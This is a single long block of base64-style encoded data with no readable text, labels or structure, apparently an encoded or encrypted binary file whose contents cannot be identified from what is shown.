YLDhAs5XECENXCwT2FUF47103VU4v6aUM9YsqzXw5EgH+cGtGAZmMGOkFH69UmGWxkCN4xt2O628IXRNBrVCRXYev4/QARoqq1HrHUyHDp/UytWPCBU11VRB8WMXLHBJA5u9PIXDo/dneW7rIS3Zl5PAiv/h+F0fUdIQX8iN5NHY5YcgLIBKwVl6Bm+2EOoQqjpfgXj+Ws1KQFMjTeil7Ccg86kZkUY+0Smwg/USAf7ogm+6QFnDAkeZ14g6US0RXD2pVpfcOMGWHwqBImYgHMMGLxxwGmgUFzLQKy2/1cL4uaBWTkP2pCplW4ODN81BKT+6SrpFT7ism9VnTMBF8ODijYSkFyi8yPWPiScqSEnT1W7HVlCga19G2vah+8mEwFWTd783/TMdULN2Klnc7V/n4QYnusZVrERdjvrNkVHnVaSDEye0mD44wM36er9rG2h5BciyodjSV670yVzBuf1uD+JrW/Qy4tpiS3N112ricjjZ9h/DrzyYrfrY8VxPdgps5nHCFLMJ62oGb8rBIdU24fgQF51GMusFk1yTzgh3AQtL2KV+PInbsmL5Q/M0Qxfu04fLOxFAU2xmRLoqEYdeWhJ2L6x+XhQp9aElpuglpoMPFThPToNZCKfH+DJ+UNpF5SvAnrbSw+lUH0xWVD5eDKPy6RfsGFTtAFWBW+yNYJ15pKtS0eHlqSyt1YSgU7GSeFhTZ3D9AxQAvcmw8QvE45nGCETozmR+hdPjJFBZd4WOIDQvT7udbra2HBi9JPlI1B5PvKtnNfV+k1VKEhCeTN/ddH698/CXMgefbDebSWCIKJonsyFIx/qv00Gwp57GV6w0zmWapv7LNgcl3ksgfDT1iNqSZpdibxubojgh8rGw/wUhLy9PSBwUsPMYSyQBXpk+ENVT+p0ijriQHngMidjZ8uxtxwXlDZmwhbtBNyGgp9DSSAZpp9jIo5vPm7lvRPbr5auZS8xgFVASczDnKUGzU4E9gmehQ0lDpyIto85KiATNc4aA7uj30qhQe2LkupmcQzY6g2omf05cMv8ibDTNnKroxXODdWft2rG7EnshnCitLqipj9GaSWBG8iIzcea3LSSzkDImgonImKfiPxi0RLvmRmDQslGoSQ/3I7wUWl5EglyPOItzjffDbGiHJsu0HAaWOgIs1KyiUQAGBSamBvt9hltwWa4kq4AlQO5Lg5P6CSUvhzH+FjbRzDD0bRdx+++6nqmphTS6CFA6YcXRhcetyYTUvHF3/zw8PkhH+oiRam0TPEifYWnv/CXgvx7ZDYiV7XLP49Z9CoWlj8A8qjMJxwxdrmEpy8TZckJ81LBW0G7M1rE41D/1mL9bnLIYYX3rbdS3E3ZWAuIGV2BcLN9dSJY5ww3uxi5U4+UGm4gNfQ6ofkRZkWH0aIV5Kaek3+eBgY7Cl9yOjO/vWRX2y1sNaP0UHSTRzwQ//mAwZNRMfUNrBnAiXcaCzaDUQyX6dW8/1aF3xENeyM5s3rdfKGrmUckeogAbgBqy+rKrhTf3JKI27frq/vr5Q7sKtygztBpBR1IWrT4WK9YYHArua7Ae2MZalEMbsR0iqY2ocTKyuozGIC4dPmje/9Yhl2ISFBkEd34U/yDBlI14Dc92Xr5hTWo1paDrZxXGavxxFOC6X0SiXrAqga4McQIDjOvsmrC/ZvBIzXCdfqgh2w650qpKEW8sA0aUc0tJ1n9ug0t7S1rsixbKh+/WuIf5Cni03A8Y+U1tzTVJqJrdmf5loTAg3r/sXm+6c5Rm+5YElvMJKTVlmzbKlz3LAL+NRyIiYe+Jqvxlsj1BgIEvJbG752OyG/JQqYrSCiCZ6fnOhEohTkja4tYT9/jiJ/agMHTEUss329li3fmXSZSm7wxY60rZDdh9/qWzomldvukdpu5RsIvaQ06deb6BbS1BQpPhVktpBn3TdVTVBL/Lc+fEsbL929UpAzaWZgb26RiodIwzOi7UUGE+TXfJyYVOVSa9htG4kRjthMq1Ol2lsAD9wPOmK8FLOGFzypPbT3p+l1OE0yykeeoDfLC38PT7SMbiPXUrGtz90GamAy4nu2rCBNjPhU0dbjhfUZFnXGWnIMUD0vcAXQDJ8sdWg0Pplb6dBB4nKqvFlqJSZH+sWkkX+sYkPm6mxPa6LaLpkfCLOD2K3CHY2IPnVuPng/MAVOJIY82aXvLl0uJFb9wcWe/2o81hTFl11KnZrwq1lNyUAK2wpOu409ZGUZDFrsiZ2D1a+Yv6/qB4xT8THCgWb4N/H1hzi7YTNh6D4Bzdwwd1EZfyD7O7FBDH3BwwWiWY0V3mJ2JUByht/uAy7CZzBppsEQPOM69Lpflp1OURfyUx4ISituGmuLYsAI1nniA5xzUu8hKvrkvV66ydw4ZTksPGo50XAGxLwUhqtgLJZgLuiuvr1WjyDZCi1HS8st2JILMbKkctfYuKH2eFNqeXnttTvWFP4OFSUp4YBmJTHNwml0mQ+7/FALlHTKQr52nRgHMyjufndxnAShU0nzC5MEhOIjG1Uknus3WupOhYRBO+ys3TSCoVi5Pks8rqH++mVF8y3DFUaOxvUmIyamt2IM+YUHNzhIxeYdJEr2nmhddrO25Z5peUDvsU/VrEH6beIyzvRX6x9Fo0/Pmk2EkcJh6GolSeR1wABeQ6uGAPJ5NZeBmXOSbisrxHA0i273eraECbyCisdOfOwK4tzjqaE30hL6ZKsuzh9Xht778iA5RB4HqfswqGiiVLZsuIMy4kIOVXHO943Ll6mzXDmlUX0viKDYPh6EcAcZVoRVmvLgMb3nsAlLGweQ3cJX4O0gJmDCVCyWk+usTI2nuH7iDV/GiZGDEKQfG3S5BhZrjdWayLLoli+KMC67DynonH5H6q1KuSzSUORhxM4Nwf8lXXbJETsLQgbEj6R4U0bZTCHLx8F/qffPqsioQmOAkyD93hOj76V12UY08BdfQ0h3GCo+jzGcxA01pFTS6ovPk4m2tEyHigJM27RNd5+usu889+Mcdx4pxuPxNU+w3CuLQrlE8X+mwK2ZShjj1BKyhiAS8mCyCtdfxlSgOltI+BFG3TBNpi91FMC8vpU/BMCDygUOj9cAkPl8rxQrqRSV8IfHvOxHisRtpLnLk18UCDNpCUS+rPK15DHu3hvi0MZhgFugeCohrqLrn0VSoYP/2dP3Q9B/AeLpvJNP5C0qamJtqvwpmxjtF6uU/NcOgjk6nOq3bVMuulygHbboYdZY0sD2hNyfVFf7jwZpW/9HUxgC17mPw9YBBIief5HX0HrHl4YNu/Dev6NKJSWuqqlSO+I+0/eqCZd6FbslRvi0N7JznH/J0vlR3QXU0aPS6VS2YmFSTB4DZI+NN2WwkDTByjKjcsDfyUv1dT5mPM4bN/RrV4lRgEX45lFG+Y9Fi9lF5Qx9apwz7Q6eNk7LSnoGZLASlwGUYhY6LxqQwvWfIyIh1layZvc2Ia3L8L0jt8C0n91Nng7Y7D/G8Kevk5wm0jZWIjfpxBPahmAcC+iRo0BSEXZ+4u+4LE66W0xjcjvWPrLEZ8yJZ9HbMJ9HR/hmbwShpcdUxvOlspSFLP17dO8HuE7Z+3sZ/GLQtb9747h6+Hu5cHb7ov61vjnsWirHzx88HH1qEK8AX2W7yMhWKhb2mRHiUUjW2sh1BHz3VzYrcXRSkFinFsHbtFlDGpA3up2CEyc8/eWoCCfwAnpTxSU6J7UxVXOx6+eYT9c29KuPwtyWzWLZpt3kMRXi0NNxyY6H175WI1JMCmmT+eRCWRXd5kpiDe8uRt9Em3gE5y0Ero77zvNNfWade2VexrBuT/dXnLZy9hlLnw2JbAvZTPw+Zua8s0QiOvOTsgXBqO67bSRofr6KEYPYUA6L5grzmE+eiqZue8ufErs+QqE2lZ4NpMUid4xX+rhxbM2uHBQ2YmeVzBJDfiLfjyMl2yxds5foZjF6WhjrPTtRpMnOCqL0EzhbquVE9ffn4u88uOZAtk9H2BoJaNpClW8NT2XvdB5vd8xXwuY6tMFxhzqu2MfIq50/eZINSxlHoJcNOBiRxebzGLDJguIOA5sjAsI3jqkXQRb1dnSr1EjM/dq7Nwsbpp4eNKsO8mzv4UhXSxPVU8lMNQn6aqB6s13EUJrpt3RkAFQQ1/AsnATb0POvDdch7mb2/6HynBcB1L+tMMdovfhELsTz57Q05ZhffnBKUww09xMqndafXmdbsZUDMxrKpQqaY3jzrKisorPAKJbjqhrxmrFC7JG2MxvvIWWQRiQuqQ3Ju0MiU/lXTFdj3+O90ccnJtvHFB8pm1JNeQ6s81ILfmnYT4wV8Vl6RzEFzTpdtksre/KPS35XvFUJC/3+TTvGj7m1ZfqLvveh62WCjByo7yV/ekX8pkyR/AuA4nxORxhj7PMJZ7jq1P7V252zLnh02TH31U5GE4GxDsP/a0eXL/j+jgVKpfpkFJ/Gg4rZdezjme0m47YlpS9HNJxBOc5kecJT+MU9HGoJwXcV6JWV6TxW2OgQ+psbrHUXVZvumCzXU9x/LeSDOsjIZGnXmDvY8TdgrfnMXKZvyOg8RPDcpvYTsjV6ONx2UBZPq0psq7JodZwUkfDRAXjEF395rm0bt8jX8vvYocMNUQzW1AC2adq8Mz9ucB+89HY4MC2zrfQPAEiIN5s/5cG7fiVe3Lxqn1cD/U1TV9oeZDQedqLgqt6KiO7IIOynJ92EHfs6wdKdOZNx+cE0jPjGix+S1hBhc71JxCeY9L1n7xGLK4v6XB98+JhW6H3Y0Jw+rGURUXohpNTSP25YJVzGdrYJTmFhvPZeIJMiorqVngD2804g7yzJDbtPVoIk3FWUPCjaiLFpOtlHlYLEYxWilia++AXrhjrjKpbG43AC2TDTCE7zqSOheK9xPLZkbVfbCM6yHg9p26wXTa/ebRteH4dh+T9yoQk3zpUzs9qoJ65sI5AyOO09DPWqA5PmcpOXDtoBUi5eiBMzaGzNFwcoiWsNLMJLKAtYm36iSEyExUqqAXHyuzdUxFdJx1DDUfYyEVmGkW1wzCIiFnBxV0f1FvO1LIABVpAWN1Tcf38w3BvhWsty0jaUrwECA2bL3O6MixoSvSYeiWW1iMHQkxduvJcssyAX3jkfYAwPwYYsb52MtqYB/Wyf4VyrrcvyUjM1D7befwe+SV4jek0qjCaPEV6vC8IHoaaFwENwvoly/iTVL44RqD9WG1NQAQxSMvY03Ozdu8Cz3UUSGIt9ATpOgbrqHk8Z7SLxVhCT5T/s4Gb2rlZ4L5Y/yFgePnHIUI4/Mj+IsB7H1ZdyPt9YjE+4nhdt6h5x0ewSVNoSBy+pHJW6kaYhi/zbHkE8rh/fMH/5ZJm8TYZ2deXFFJlyvbz5c/J9ye0T6pEZwIDCGm+lsY4naoaj2k4E5UYa3LgP1j6pc4PC8TlIbdTfplHgsglt1PwBJDs5ueIPgG9Zs277PWe/wM6lpk/kCfKz3PdRiGVbGtXdSLcXkhGJSk5RRHT0py4cfCwHP0/MCB8voSX7QP4xiVZQR76CJHPrUETGXrZs4Jhwbe3uzSBjNVv5Z55mQZVaLZBtMI61dfnNb1YPMbqJvfVZ7XWp3c99mVs5SHXqxnOpfaJPInZIGbZkqWAWO0vsV2JtHjPdTzBngEGkrI4N3LxLvctWTuLUEWsybI86MYV77JZevaPXx9JYTBExRKO/XlhWE9nK+1WOB7OAzxoMIF3quONaIrDoagKtYn79FNtyPj03D3lpcSZ68wnV4OjE1m5842zssAqe34S2mKc79uWUskQuMRKH37RGrqkcFSX52J3vTVU8iHQZEkAudk98r3FRi8X2UiUkPgHRebdtMJn7/T1Sxw89nKjbWibx9SVv+rhZhAbGnGELkYR6Nj/qs/7DHCm85mhRKccJrFp4ryF0l9yt0KFZnPN/zv8E4V4lP8s7ZIZMFYFEfz3AOjNhAKTyjOrEadTfsh/0HcJejDlhL591A/I1J024ta/01arFfTI8EdsePcdVtQnRxBKiUwISv0RhUemexkIgQoTw8lXi+jtosLpHPXTM0u7z70SxXryn1mhbBaQ617enEsRPvgg+xOrf+6Qy5M+6/rDy4db0Do+JBO8/bVnCZFeUL+wSs8GIoncSc0ZWA0rYAGLs5IsSudErjn7iZKmUsMZ+BTDkedUcNCfSDCiQz9gSVqIe2AHnfS+1tk3Egsfg9zOPybfXZVS9jQdf1uKLI2mPdG3L520R5DIQnaTJiWVUiXlGDsok8cR9W2nbhqSdsMNh/CBTPv5axgQ7wGIJOB0hq51gSPEFjQNMG+LsaNo5EZt4JQVb2X+YVy/klFd2sryP4I3NAauzZbF6WXf/WvpcZPd+HtVByB2RkTThRfyS6yMmFol4pTg9VyeIQsxJ3MfZ73k4tekLpQ6IhlP8CNZZsr+6LG/AnCer93E45aAhVm1/QjTWkxc1SmnBEkt6yjjfVRrGE0k+8TH+InqHUGf8wXr1T+IzGDEnQ/xHKNnQ+cmKoN02Xd0xuGwrdFea3SzXGNOv55/ZEmYvYP2yq3OvX3l3ANjXa9y7O4Ays7uHyhEMIE+pIKhaQ7LiDK/f+3a3iVgYYQYX1e8ZvOWVCoY8ixYamQ8pEhVcrdOCTC+q734mOS3dxBhD/BfHd1ytvf/UchVIgH1iN0xQQcReCxlxQc899mnuDDyU/JqvM5f+Ocu1/Za5EU0swT3MioJcvn1gMVVGbmw4JTxvzjEmrkm5BClsfyOkvjmljWVRap/XI87KLbD+1bDv/OwCr54nmtK/Vl6MxyjZ+UMwZDcBuLz933o/2hy/XeSYIrLYqaFp/I0BDNPkYgC6DLLlFYh3u9krxxB1ezerDYrctQj0y+EQBJYlQbU52wcYmad3YYQEutzVnR6YHXcLST0BveUSzWg3qAyDVmPvvZFDX3hhTR/6WJNW6Y/VOsNWk81w1h+zcrRX3u2AECUKMdLJ4f4hr59OyWpLC8RhusFWBwrgP5ppwQGBSg8yz8nkFMM7hNbIQ99cDOOsQWWWdSgNOu4Fu39maTu7iXxKA6VT6IKgyjJvcZlK/Fvz8ahXyYZlEd8TZnFofy/fat7gfzcX/BrqaIxGiduZOXUYmeVCdqTEOeNLfsi3wmj+QGmS9ECUKQ/K/zME/98+sS1cOjqUig8geIdB/pjg7HytyyvqkbxIYVgH2vSf133RIh0iBmPCYTefZyXPqbAL19+vZQklG4XwgDG+9pK/NzJv3nLKPN/TdLkVEeuhdpYmBZ6o+eyz25YbfTJFzyoBRMAsj+3jT/1aRUCV8D0nOqrrxtupM3q1P5cmxzXYvEOkJnFtnGxzJhGokCn1HYLYQQd1H1u3V+ui2By2qD3UMnpW4MxVA+6A5l7gCxEefdv26YrxfgvDZODgGkoyO0Op6i0b/VpswrMvmIIxHUQJ23knLjnqeE+xN+NH16M90XsXm4gUdN1d1OiDECvEonlCXkVEepnK93qT0vxEFvmCMkv+BMT3aqRb7h7nCHVgs4b3P2KvBQDVrVnmxvm0n5329/nkuYrnQEEMpiK9C/bMxb4/z9l6g+AoZax/Tl4nwvrY1xFg+J89LRFXp1w6KmxpvucmBxrgcZSjE9hFcWFn2povr8+0I6DUd7cKiYXQC+CYMzhQAQC62u2/kfJuu5hbqZ9iCmnNCjnwYMfQO5qf7ouKGxf4rmNsaUUjkTn6I8ALxvKTTiruRvP2lmHUPzOll+hgeRuBdeFU+DRhEOM5sthwm0apItG0qA0Rev3cXEUgGZup1HD7IQYHbfMjZ/PzTtP7RdVzUOrUJw6CasuvJGUedPSu/0onP8+7CxF8b/IDbD0se6uclJUcg7CqCQNPvbTsgwCSfbDPERpQnEYoK3nyyF7MP32DnmyG1wFEH/Adc2U5hDsURRPhmSKfsyrsMJuLgccnr7r3Pm+rqU8nyn/3vvySeGeZ8xs7v6n8KJSZvQfn6fDkAbOzemIcyBiJbvmeoh/CLzirRTOGSEdDOQVyKJ12CbbLkd4IlGNmwBSFFMvRuxRkF7pefNua5vZ1hiRBtWhRmZy5gY7nBqhji4MuQ03gpzScXvYCINDT+t2BaH7dmxduGNBKNPBAB9gDZOCLiEfUZ2rjbFGaKCliy5LY/U8Y3htTH+SdonzPvacRPnNh/YoThEYLp88rK2KbM5Gp1Ex5HmtyEgiDjlc06RHWstghgDR3cWnb2ulZBN8UlNzcU+dvdSBa8Wpx3F0njmXqeDDscQkuE3UoPtU0pN/v4+g6N+3vePZkaFyidlB79fjusHjnYrzBcJb0cV+vAAhrAhcmoC5LsumQic5+yhtzuecLAiNiu/Nd/pbXQKIr9N69G48B7ZIJofGrDeu1DD2ujNOuIgMDsvCOsiG+qw5JZUzRripO4s2B+ZVoqnjVVnJRyP49R/o0aBDpZ8QKAjA6tCPRwH6erx+POdSez7iZVkZF8MCc+hWGrgHxbF/BcrhN6LELSPdBLstUVyVhtHezakFJbu+1BJLokCA0onbMjiz92pwdC5nh4nE9cJfpl5p8xMaFz65PmzPRCokjSGMsuQS34le+ObE8sju+kG6eS3S071oDpZQd/7RjhnelIDuodtwot1CDxQ+QZEq+76N29ynlDngXWDnyjqP1sMbFLaS0/HGt6hS5lQHgz8GgHO8nagCjO685YcU2s5P0j5v14uj67sa2/tCT+2cJ8le6HskpF4Hg0F3pjbYcnvngTcn089NJs8NcEUWWZUDYTmaxndq6vX4sJZnNKRrFLV52vUDMJj74QdJR3akAMiwEg8oMZ5MnnX3PH0aAzKDlqTPW1OW2CFp+k7Auf/gsYA3lNZDEise+am6ziHV7uhgC6hfhs6pq6OQJIRHjuWflfDscqs3QPdrxUVPdT7k5SEqCOyGzUVMs4pGyoUSuRsXYPZH+x4oRbXJ/NjDh7N4YDcLULFMRIXw0jihw7YQkRQYKAMLyGEFmCtmoc3miuEW4Vai9c9vxwXm2yvr3ztoif0HVgpnzVM3XgSJriSeRQs/xMIQ577Mkjr1q7Qe29dc/CBIPA+M7JwyxF+p/w4dz0EQVAM8fXWPz9ezBLxNJl3CcC+RX+wzKxpVUY3lSMiIRgA9BbPgvDq8S6sZVA/ReQVzWiFJ8B5xcAPFb0sd3jKfTzSGMXUPowqJmzmpiOvlfxOaFyi7SWskaAH7HGxkI69bbBIteSejdBf7y9IWm25CnvYV3u8u2m5ei7iwY0pbAf55ZHdSNSntjQhj/4tbGVLedko7BvMXNCgQSHjZdcXqMz1yg0Xkrch/97jGYZ1x9zBoychazdovVb3qX27UF1777Vjq+ShuSJQ7CUn7F/mGQ0Y3VO+Ha4Y2VD4zEIHhv0yBn2jnsUrh/qoSuiIb9T5Ls9L5WUu4kwvyzCnWa2fM1pt2XHjGXTY4ddivW4nyL7XzMbzHCH7DrG6ZBvyhh6THHeUoDi5TQa1/KAHzz88FOKDy0udigDSYq+KNy7GtndDv9XoUn+6kz9EVSaZ8RGpuMmrKBvSmI0tByCGCRoLyGHpWe2MBGbbK/kwmkUawHS2OUfokr2skdskaMTh2p4kakZ4DBFmX9XxDK0rhDksS3Z1q2THIK0AXuk86UXsSAXo5iFVUaoknMBIVBpbS+k52kIUQW3EztcB879igKENSQ+50lPRxDs4un+vIzYOAWkLfb+EEHXuO4O4U/EbJcxvS1ULlk+oL/ts73eQcNowoDhRLmHwOEbVnDe8k06sv9FiEmKdl2KoOameXEiljXosseempG8MpWhQ5WknT0xf5ZNutYRlukIoreOSORbbrlYVwvEJlOkuvgF415tcq4FltWvYyHx+6ZGzKQbi1/a+1GSikx1lCx+QQkLFffkXmqtL/31MD2bY2ZG7DVgmDPl+wQEYi9ihRP0WrJk647PeI4movkK4vlTQoIIV7/HNwYWJ5T6ntYeUvvxFEcRBQg3+yk3OYUYkXr/wRhlcu3WB0X8Xq5zkxHswXtwDSMRjgjSBfS7lFMi53Z4HLK1xe8dn9h33KPgS26xSG0dfLUSJReGspMpbGe1uI0xhaJnUpdW+oH5wZAJnwD8BWA3HgNsfdt81qKnNu3gOvWGufXK/99tb76f/Z0pji4+f28zfu9YHpO6vRM60AYjuNfOYTx+x9YeLKAxRWWu1bNKXGG+Tu/+gD++p7PNlMSgVXR9W3S7lBvNA8Okmf6h7AFz9BrHCDyCkI9/I5D2PpxHsMmS5XY59Yxc4/glvBI8V/hM8R9TDmWU3Dse9304/dBofstBLSBgMyxoAWAmKOcAVf6qZgLSn9IoObVpxQp6vijyOwbX3CB2GrRuSNZ5WVeH2aJbJb8b3AZOoMUJgsQh+3Oo+JiPWcw9W5fgFfGcRqwGM9H+9wKWw41RiGBmalsdRYaQBd6nvhUA3QEUigH819dwQ+vJe5ZoNVRSisD98h5gmdTPvCTN1+TnZ8HZo04jFqsODccca0HrMTTelqrA8/7j9Lp8udFnUosArxpld1q09G7udh4FgXyEKTLtCmkAfuT9nmrRx+/KkyarpXJ1JUK8xaDtQvRu33nD/N5M+BKgRUWwRw/HshI3oNzxDx02JDGIiKMHLgsn9N/2fOIqo/M9H0EN1s2SdqVvprbuAreS/rGwKfGRTy0NvSTusm7PUURXKE2KtNAwnrRNFtSnzH+7paTYkbgmNUugQEJCASiTC7nOk3O5FMYZMzWoxnzmC86WBAUF3SLk73yCRAslaO5bBRYX8/8A8sY0rfPNfKh6Vt0hWs/6hWlxuFRBihtIjJbEGCcUylIPg2VkMBF0ypwqKNDGVdbmIlvGXH0O9h+7zoZt6JizXjptAT+d8/Ps1rMmyOEdSt2Ewr9RF5AU+2ODUYmkWSJGU09GIakMjl7VhUW3UP2i6N56gGfnwqUa29lE6CgUdVl2YwxgiqT3GVbuWIo5Mc55jEq5Zzb0BXzHBY+aXScdTwQHCGf484Dtj1lAo9pshwM0iJ6ZVSr7Gg22yM2aXzuL27if0lgzMsEaW53b3LBhJ63HE7FMhjEEAJaPJ9W3/afuFqV+NiRU4GHxNUvsOvj/Ke8B8u/1376GLbVWvFBgZPfaJb6UrhyhnIp97Fq58OOn0LDKpkI+4TNmXjVjfAt25CoZV7iOq6TkAuqkKjIo54qM1s7AL/y8E+os3XhyZETCYo54KeO8xP6kQg7bAvc2GbahajcEdksP+r15E6iP1D59gvp/Z7fWQcKUkCRpj3hCJVakkCM2b1qXC7fSmDbY2y4fSqpJAI81ApHpvVFtKy12FXpJblR28q8a5rlWJyGRsKahZMXOYcqly+al4VHuB6tWiJ6bQ10NlAxxDx/zcRlYqt1HR6eq8xkiMLNrDwHcw7nnjhMxvbbhpkAcDtCw2Nt+20H9jpjVBrVEwtQM81zmFQdJp3UGFjmWZ7mT/pdEs5Gdl65GD465nok75E1hDwPp+S89fF+PIcw3p753zkPDxjC3e8dp7Z45XFEuMoVQKYYabkO3OV2SUrRzAwAxjWYkAbfPyIPOWfUg/qRXPzrXNlsvjOWUtL0Zsr6ta1iNLJTfYr0btoQ88DqAPWRCaiGHQ5BkhDSjpu+3OqdA7ny7JBaPdm66t8AmPQLDJDunVUvyNXUPEueftZjCF6FuONtBjlTuqJs/mWBhyn4iZ4DRnCNQHPYIYnD28YWI2e8Pu+ryJaOsKKDnU1aPr1wZ3U1w4hikbn9tfP3vV0WPs/28PrEXpQ7GCfKFmsGp8vGMEnaQWbzzPhtYFHUjvLo3muH7XhcVg3Gr4JgMs6myrdaFAVSKq8OMNHP5BxEQlhTEIz9WPXKHffyAUXf+F/G9z0m0xj9xMXvlkgW6wPCx9mmDNiq329SYif7CCo38FDc48bRI2Vm9MIf/Vmtws/yYoCmAbiDlmCsnWMBkmNdcWdr26suaMzFZCjtTSw0suFzyIzvw3He1GwHG2A61oqkg6GP82nwZ3BaNygY6xvCyHTWwbUpA+2iwM6u79RqW3kfdAGsZCnRivmTpCQGDuU+VuLK4HGjMJGmLY6Mryft5zjiHgJaJeEV83v1xWDvv5KMdhh66GeuE+6KX8sfDr9aNLvXo301Q9pwcNW2dqv5OPM4m8S7jk+PqFUaZuRhB7GR2QZjNsk/TZX7mxxoM8i3RH65hlpbZt3sk5u3IQJd4+r2RBsPoze8+tb1tTzdVfKF0gx+TR95QKY/j4URtnja8/I3AsojUBPbCkfq9joIa0fr3xDM30XI1ZsaR2pu7+df4BNh3q7TQ1plPRH+bxCMTqQIEFSjaEsMFGkwhf4WdSDv29r12HdTd199ry0KJ2sLORrvL4+PYs0DdUuBh7LByYzrVlF7giAhT3Drgl72lvhSFWYa0I4U/nc7xuZ2DjVrvvzO3II6dIxt4iOVRxK7LVeAnyEzgiRmixF4Wc7LoaKESX+sL/THNqbU/8JzOMpgpnO2yW7JxTbxDPkqUpP4GRqYsbMKpRiXvl1kHTyG+5pb98HayaybwYbr4tDeFakHsxDkFI+8m6ceHEQOR0GPD4Pt8gS1qBX3H+38XqquLe1cC5gaZS35ByxlipeN9YLIMyGhCU/GlwqWYR8f75UhHgzfBf/lxSr9HwInOBDvY9qKi8SVyf4eRNJCSsFGKPQxcg/WZq6fea4wI89iEZwkNjkj5HPOkOcBuF/rLDHJU8JrJmWs4Lz3+hHos/R3Um/pSz6ED5dzCLUY7fZwfV+UGiUbXM5GjuLQIT7xjQjMmo/5uf8R+oOFNEHh+YV2YB6PpnUj5phP23BgmoTS2+8//Y3IN3WYx44uH9+/wYNL18Rr0xOQb+fLhfFO8uV1LSZ03X+IwXrNd2tpJXzzRyRQE73yDP6Xjd+NK1quh5An67vsnxGf21xQ717WiSULhUEkdJC3RHFOjdJRet8Wpdtym5EFL09oYvZwdfC2CUDs3H2NyN0nl57Biz9KrlACuCowYEB345dRzaYv+s5vvn/LxLad5QJoEM79UK8hgvbzxJ0pQ5KFNujQ61tXQvgmQY3xMII87nus5M9PZ00qBeWEDKcKRd6FtLJpazhn6IJRQ6vMtTiUM7FHR2vY0qWkzJfoEiQvaIP5oPGNdu7++SdhrFWbfZGp3QYjYVQ6/94LhSlggbRO6XZH0xTx0n4MJN6aTfYUi2GzgfbaNRZeTuuwsPJ34XPVp1ouCSubKPgUB5vxzY5tJXRdCTrrIN1pXokE55lsPHPyXQ+nFLYh3eeCC2Y7x3Tl3YWxZBH+Z+zy5QsNeYKAs9hc/5h+ma2iijXgMaB0XOg4MhwjcsvQKdCh+Tcn0jp3DLusR2R7GFkZJG65CCFH4p+dNp2J978XXyWKKOIP0KFfOQjNHPRW/U0O02+HmmB1ShK4A0Va8lSgWT1BbOLp4wqM0pY6YlEbE1qcPEiHOpDAEgeJ6yqKS6zu/8ykU1Onf5m2fxw+Uijfp5p5+5EMsWMSGbTDsi6fzLXXwsg/uRp693rOzNgjk/yEyOE5wvZca8MavNAGL9WDxeyoSDJxzNmDqTEJtai7DhGVGw1zzGfb5gpAEvWqP/vi6go0iWUZOCG2Gp50hqnXrEW/3TIIG0+LWfDOPWCgzyBmdFy+SGAV7Bk4o4jQ54uTxHbSCwnD8jo+AtM67NnxNnvm1b0QFwGTkhJ4yVlBbyUqblo6WIinKji12Py4Wc/4KjpTjjtUa4DgTFsJ+jg2S6fV4iqfKmsS4pSDAUd6NQH2jkVLVPUuOlkjrkRhEQB/XIZZjc0XHBTr7e/6EUIHU/RZF7aQlpHrgPyiE8VZFFCEHAcXugjO25oMpVoGNt5byerQ6kF9Vzi0BHuLSr264RmNWSm8PEDbuiY1EguEs2I+mCe94HOrxUIwYw50WkgxRmunEZwOkFL60t7yK6C2AHSwlSdysIeRVgLv0YT6ESW36i6j/pNLgQUUBsPPvMGLfQVp4Bf9Q1EKUTvYb583wcmLibyxRN7//whfudrbwm8FtAAz2d8XXdhfMh8Ls3a8blXQLYhtazxrOCLwEsQU4phs8dOgKujAkZiIR5MUCP5lAx/fot76zCcMTC42WDnqItFk3qGtmyef+R4sZ11qfjgdNgQdhDJ7RF/41ErftYzujqTcKPJz8AiTdKlulrrDMt1XlLlVPi0GKnmUk9aasiZZjlZc8yoPxB1Z7Mkq1FxfTxvA39CrGlpbvmr99Emk93FP1mIko/8/UiVky1ZrkxK7l3MxBTI+u3Ui1BRtZrV9VkbQYO18CaoGhU+3tmlpicD9Uk3gHKXqo0HAJtiX8wo34Uv65ZTJ7Ij4JmxUQUmUOrO0CJtNecGqbRgMtmXOa1+IR+hY/1CMhy5MPfZB4pS8PhXNtUfAqou0Z7PVCknyyjJmnNbLGGF3Ho3EP8G64KGf+kN+3shL0CTaBJJPjhzv+Q46wNu8yXp/xh4Aufwlj43dYCbIybsVwyphqthMRT/Qsn3qN5pjJ4zbfiQnRmluZFDNQAawQjLNZP2+n7EZbougVXiiOnUtyvpOb9qvV5Gc3H8A/KwF4O6PuyTadBn0AsFmiaR7xYiHpAWD2KYq0LcZAK//HyvrL4Gt4KHrkg61DU+HKgoJiaM2Il0mcp2+ykqJ+R0Lz+7cWtF9IGEIrgrIIdVmEQoKuO9l+vaw8Boh6YUhFeRv9rImpHyyiBUvt/Bzjjphi0T2s/+6RCyqOGoiodqPIGBHO53tKMGd5PQqfj9UJMVNqGK7aRaotJR2b+q5gD3JPlkt7JLDHpLmHBr0kzZdU9Y0ZiPlW+LNh3VsAulpbZDlV6fdiH/9TzEfRy8jwFXfLRoV99Ka8iMcm9qzcPVmDW77gG03duSZ/RGI13+Gfp0Uiay9KEgCzjy8S/MWBJdD6i2t1j2nbPfn9aNX+11kffBxmLO1tkuTt1Ep1y/SAGa71z8Ixf4w7PRySvrZ7OUpbe5XFf7U2rYBGUL0yWlHuYk3JdoPGoZGY2TOiNu/07wT3sNfB/rJ0n4WyvkWPhT0OWGccDm0YoAQsxTvB0Elx0t/FXKAD9inQaDrw3x7Co7yJVx1G8qXPPUFEo4HC/mSJtY/RM6w1zbwapjR2u5itJdWL5vvAZ4k4zphD2JfEOGSqvdKSNuaciRECaqn0Cs5Mq+Uz1dAoZSPp1XhfUkEtDxtLlzB3xY74moMTr06Cyfm06bYUHCTx/yC15MtI2w20e9JZeiqsXOEWw2+TW9veeiAk5VQjzJLQbqx94gO2F20MPHvLBKSbhoK01PSsLPlia+M388tabkPwRM8CFUA5S/3EdERxvhe4MG6nH97by/yCTrlXQBWPaV9HNnHftP1b1p/TnGIAsjVZVvGMIjVQH5lzMkv8KT48iOiSDg+BP6kWA2oL4Fb/PBzBlOZS2kSRMDrL+wpqGDzWf4edp0h5UL5efbVf6cTZNIhOR8ZOYF9e6g1r0U58CN428u1vvzGKPLbvUDEBlGM4SptU/g0ZpGCMJvhPE1Hbb06hM9bpLz/DMWBft+5RVDITlz2D/gnrnJokEW2th19baTXf+sFKm+ANE/i883P9fes0bX88Rb8RbE30cJmuJt8BiAOqTzvRwAhI7AhQRzdxYDvEAptzo3Pgpn3+OnZjWSn9GpIrOZbatTWZf5Z9fPMoBwC1s2Jc2vyo8icL/dhiLnISszrVdGjOmRXoY8QnkydarU/kI0HCsP8fv1qoGsd053XluNXiP3ZSPkBo2F8LBOSWoarznTDO